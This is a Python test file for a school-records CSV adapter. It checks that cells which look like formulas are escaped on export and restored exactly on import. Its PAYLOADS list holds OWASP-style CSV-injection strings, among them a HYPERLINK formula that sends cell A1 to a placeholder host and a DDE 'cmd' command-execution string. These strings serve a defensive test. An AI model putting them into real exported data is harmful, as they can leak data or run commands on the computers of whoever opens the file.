"""A spreadsheet never sees a formula from a value: formula-like cells are shielded when written
and restored exactly when read."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st
from siecle_sdk.plugin.adapter import School
from siecle_sdk.plugin.manager import Adapter
from vendor_a_school import by_id

from siecle_vendor_a import layout as L

#: values a hostile or careless user may type as a name (OWASP's CSV injection examples)
PAYLOADS = [
    '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "'=déjà marqué",
    "''+deux marques",
]


def _cells(folder: Path) -> list[str]:
    """Every data cell of every CSV file of ``folder``, as a spreadsheet would read it."""
    cells: list[str] = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding=L.ENCODING, newline="") as handle:
            rows = list(csv.reader(handle, delimiter=L.DELIMITER))
        cells += [cell for row in rows[1:] for cell in row]
    return cells


def _hostile(school: School) -> School:
    """``school`` whose pupils and persons carry the payloads in names, phones and addresses."""
    pupils = []
    for index, pupil in enumerate(school.pupils):
        payload = PAYLOADS[index % len(PAYLOADS)]
        pupils.append(pupil.model_copy(update={"nom_de_famille": payload, "tel_portable": "+33 6"}))
    persons = []
    for index, person in enumerate(school.persons):
        payload = PAYLOADS[(index + 4) % len(PAYLOADS)]
        persons.append(person.model_copy(update={"prenom": payload, "nom_usage": "=1"}))
    return School(school.uai, school.school_year, persons, pupils, software="=LOGICIEL")


def test_no_cell_starts_like_a_formula(adapter: Adapter, school: School, tmp_path: Path) -> None:
    adapter.write_school(tmp_path, _hostile(school))
    cells = _cells(tmp_path)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert any(cell == "'=LOGICIEL" for cell in cells)
    assert not [cell for cell in cells if cell[:1] in L.FORMULA_STARTS]


def test_shielded_values_come_back_exactly(
    adapter: Adapter, school: School, tmp_path: Path
) -> None:
    hostile = _hostile(school)
    adapter.write_school(tmp_path, hostile)
    back = adapter.read_school(tmp_path)
    assert by_id(back.pupils) == by_id(hostile.pupils)
    assert by_id(back.persons) == by_id(hostile.persons)
    assert back.software == "=LOGICIEL"


def test_a_hand_typed_apostrophe_is_kept(adapter: Adapter, school: School, tmp_path: Path) -> None:
    adapter.write_school(tmp_path, school)
    path = tmp_path / L.ELEVES.name
    text = path.read_bytes().decode(L.ENCODING)
    first = by_id(school.pupils)["101"]
    assert first.nom_de_famille in text
    text = text.replace(f";{first.nom_de_famille};", f";'{first.nom_de_famille};", 1)
    path.write_bytes(text.encode(L.ENCODING))
    assert by_id(adapter.read_school(tmp_path).pupils)["101"].nom_de_famille == (
        f"'{first.nom_de_famille}"
    )


_CP1252 = st.characters(
    codec="cp1252", exclude_characters="\x00", categories=["L", "N", "P", "S", "Z", "Cc"]
)


@settings(max_examples=300, derandomize=True)
@given(st.text(_CP1252, max_size=12), st.text("'=+-@\t\r", max_size=4))
def test_shield_and_restore_round_trip(tail: str, head: str) -> None:
    value = head + tail
    written = L.shielded(value)
    assert written[:1] not in L.FORMULA_STARTS
    assert L.restore(written) == value
